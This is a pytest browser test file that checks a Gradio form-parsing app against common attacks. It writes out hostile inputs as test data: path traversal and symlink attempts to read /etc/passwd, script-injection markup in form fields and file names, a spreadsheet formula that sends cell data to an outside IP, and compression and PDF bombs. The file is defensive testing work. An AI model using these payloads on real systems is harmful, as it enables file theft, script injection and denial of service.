"""What an attacker tries at the page, and that it is refused."""

import csv
import io
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, urlsplit
from zipfile import ZIP_DEFLATED, ZipFile

import httpx
import pytest
from bad_files import make_pdf_bomb, png_parts
from browser.page_actions import FILLABLE, PLAIN, WAIT_MILLISECONDS, open_form, pairs, select, upload
from gradio_client import Client
from gradio_client.exceptions import AppError
from openpyxl import load_workbook
from page_server import PageServer
from playwright.sync_api import Browser, Page, expect
from pypdf import PdfWriter

pytestmark = pytest.mark.browser

MARKUP = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script> {{7*7}}"
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"Click")'
REFUSED = {400, 401, 403, 404, 405, 409, 413, 422}


def _form_url(page: Page) -> str:
    """Return the address under which the server knows the open form."""
    address: str = page.evaluate("new URL(document.querySelector('.picture').src).href")
    return address.partition("/pages/")[0]


@pytest.mark.parametrize(
    "path",
    [
        "gradio_api/file=/etc/passwd",
        "gradio_api/file=../../../../etc/passwd",
        "review/assets/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "review/assets/..%2froutes.py",
        "review/forms/..%2f..%2fetc/pages/1/picture",
        "static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    ],
)
def test_paths_lead_nowhere(page: Page, site: PageServer, path: str) -> None:
    answer = page.request.get(site.url + path)
    assert answer.status in REFUSED
    assert "root:" not in answer.text()


def test_a_path_of_the_server_is_no_upload(site: PageServer) -> None:
    client = Client(site.url, verbose=False, analytics_enabled=False)
    stolen = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
    with pytest.raises((AppError, ValueError)) as refused:
        client.predict(stolen, "", api_name="/parse")
    assert "root:" not in str(refused.value)


def test_a_link_is_not_followed(page: Page, site: PageServer) -> None:
    uploads = next(site.folder.glob("xformparser-*")) / "uploads" / "attack"
    uploads.mkdir(parents=True, exist_ok=True)
    (uploads / "link.pdf").symlink_to("/etc/passwd")
    answer = page.request.get(f"{site.url}gradio_api/file={uploads / 'link.pdf'}")
    assert "root:" not in answer.text()
    client = Client(site.url, verbose=False, analytics_enabled=False)
    linked = {"path": str(uploads / "link.pdf"), "meta": {"_type": "gradio.FileData"}}
    with pytest.raises((AppError, ValueError)) as refused:
        client.predict(linked, "", api_name="/parse")
    assert "root:" not in str(refused.value)


def test_markup_in_a_form_is_text(page: Page, tmp_path: Path) -> None:
    writer = PdfWriter(clone_from=FILLABLE)
    writer.update_page_form_field_values(writer.pages[0], {"request.requester": MARKUP})
    writer.write(tmp_path / "attack.pdf")
    open_form(page, tmp_path / "attack.pdf")
    assert MARKUP in {value for _, value in pairs(page)}
    select(page, "Requested by")
    page.get_by_role("tab", name="Fields").click()
    page.locator("#fields textarea").fill("Requested by")
    page.get_by_role("button", name="Fill in").click()
    expect(page.locator("#filled .value")).to_contain_text("<img src=x")
    assert page.title() == "XFormParser"
    assert page.locator("#desk img:not(.picture), #filled img, #desk script").count() == 0


def test_a_script_in_a_file_name_is_text(page: Page, tmp_path: Path) -> None:
    path = tmp_path / "<img src=x onerror=document.title='taken'>.pdf"
    path.write_bytes(PLAIN.read_bytes())
    upload(page, path, PLAIN)
    expect(page.locator(".form.ready")).to_have_count(2, timeout=WAIT_MILLISECONDS)
    page.locator(".form-title").first.click()
    page.locator(".pair").first.wait_for()
    assert page.title() == "XFormParser"
    assert page.locator("#desk img:not(.picture)").count() == 0


def test_formulas_are_defused(page: Page, tmp_path: Path) -> None:
    open_form(page, PLAIN)
    field = select(page, "Customer").get_by_label("Value", exact=True)
    field.fill(FORMULA)
    field.press("Enter")
    expect(page.locator(".pair.selected .value")).to_have_text(FORMULA)
    table = page.request.get(f"{_form_url(page)}/download/csv").text()
    values = [row["value"] for row in csv.DictReader(io.StringIO(table.removeprefix("\ufeff")))]
    assert FORMULA not in values
    assert any(value.endswith(FORMULA) and value[0] not in "=+-@" for value in values)
    (tmp_path / "table.xlsx").write_bytes(page.request.get(f"{_form_url(page)}/download/xlsx").body())
    cells = [cell for sheet in load_workbook(tmp_path / "table.xlsx") for row in sheet for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_another_users_form_is_out_of_reach(page: Page, browser: Browser, site: PageServer) -> None:
    open_form(page, PLAIN)
    token = urlsplit(_form_url(page)).path.rsplit("/", 1)[-1]
    files = [path for path in site.folder.rglob("*") if path.is_file() and "forms" in path.parts]
    assert files
    with browser.new_context() as context:
        other = context.new_page()
        other.goto(site.url)
        other.wait_for_selector("#file input[type=file]", state="attached")
        assert other.locator(".form").count() == 0
        for guess in (token[:-1], token[:-1] + ("a" if token[-1] != "a" else "b"), "", "%00"):
            assert other.request.get(f"{site.url}review/forms/{guess}/pages/1").status in REFUSED
        for file in files:
            address = f"{site.url}gradio_api/file={quote(str(file))}"
            assert other.request.get(address).status in REFUSED


def test_an_oversized_file_is_refused(site: PageServer) -> None:
    body = b"%PDF-1.7" + bytes(106_000_000)
    answer = httpx.post(f"{site.url}gradio_api/upload", files={"files": ("big.pdf", body)}, timeout=120)
    assert answer.status_code == 413
    assert not [path for path in site.folder.rglob("big.pdf") if path.is_file()]


def _picture_bomb(path: Path) -> None:
    with path.open("wb") as file:
        file.writelines(png_parts(60_000, 60_000))


def _word_bomb(path: Path) -> None:
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", " " * 60_000_000)


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("bomb.png", _picture_bomb),
        ("bomb.docx", _word_bomb),
        ("bomb.pdf", lambda path: make_pdf_bomb(path, megabytes=300)),
    ],
    ids=["picture", "word", "pdf"],
)
def test_a_bomb_does_not_go_off(page: Page, tmp_path: Path, name: str, make: Callable[[Path], None]) -> None:
    path = tmp_path / name
    make(path)
    upload(page, path)
    expect(page.locator(".form.failed [role=alert]")).to_contain_text(path.name, timeout=WAIT_MILLISECONDS)
    open_form(page, PLAIN)


def test_a_wrong_type_is_refused(page: Page, tmp_path: Path) -> None:
    (tmp_path / "program.pdf").write_bytes(b"\x7fELF" + bytes(200))
    upload(page, tmp_path / "program.pdf")
    expect(page.locator(".form.failed [role=alert]")).to_contain_text(
        "program.pdf is not a PDF file", timeout=WAIT_MILLISECONDS
    )


@pytest.mark.parametrize(
    "request_path",
    ["pages/1/picture?width=1000000", "pages/1/picture?scale=1e9", "pages/999999/picture"],
    ids=["width", "scale", "page"],
)
def test_a_deep_zoom_is_refused(page: Page, request_path: str) -> None:
    open_form(page, PLAIN)
    assert page.request.get(f"{_form_url(page)}/{request_path}").status in REFUSED
